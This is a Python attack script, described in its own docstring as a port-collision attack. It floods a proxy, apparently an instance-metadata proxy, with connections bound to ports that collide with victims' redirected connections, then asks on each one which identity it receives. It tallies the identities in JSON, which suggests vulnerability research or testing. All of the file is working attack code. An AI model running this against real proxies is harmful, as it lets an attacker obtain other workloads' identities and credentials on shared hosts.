#!/usr/bin/python3
"""The port-collision attack: occupies every port that a victim's redirected connection could have, with connections from
the node's own address straight to the proxy, and asks on each of them who it is.

usage: collide.py OWN_ADDRESS PROXY_ADDRESS PROXY_PORT SECONDS [AT_ONCE ATTEMPTS]
With AT_ONCE it begins with so many connections, and asks on them between the others. With AT_ONCE and ATTEMPTS it goes on for up to 30 s
more where a slow machine has not come to so many in SECONDS.
Prints one line of JSON: how many connections there were at once, and how often each identity was told to us.
"""
import json
import random
import resource
import socket
import struct
import sys
import time

from imds import identity, outcome

own, proxy, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
least_at_once, least_attempts = [int(word) for word in sys.argv[5:7]] or [0, 0]
IP_BIND_ADDRESS_NO_PORT = 24
family = socket.AF_INET6 if ":" in own else socket.AF_INET
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def connect():
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    # The port is chosen at connect(), for this destination alone: so it can be one that a victim has to another.
    s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    s.bind((own, 0))
    s.connect((proxy, port))
    return s


held, identities, most, attempts = [], {}, 0, 0
try:
    while len(held) < least_at_once:
        held.append(connect())
except OSError:
    pass
attempts = most = len(held)
unasked = list(held)
end = time.monotonic() + seconds
while time.monotonic() < end or ((most < least_at_once or attempts < least_attempts) and time.monotonic() < end + 30):
    attempts += 1
    try:
        s = connect()
    except OSError as error:
        key = f"not connected: {error.strerror}"
        identities[key] = identities.get(key, 0) + 1
        # The ports are all taken, or we are kept out: let some go, so that others get them in between.
        for _ in range(min(len(held), 20)):
            held.pop(random.randrange(len(held))).close()
        time.sleep(0.001)
        continue
    held.append(s)
    most = max(most, len(held))
    # One that was closed meanwhile has no descriptor.
    unasked = [one for one in unasked if one.fileno() != -1]
    for one in [s] + [unasked.pop() for _ in unasked[:1]]:
        key = outcome(lambda: identity(one))
        identities[key] = identities.get(key, 0) + 1
print(json.dumps({"most": most, "attempts": attempts, "identities": identities}))
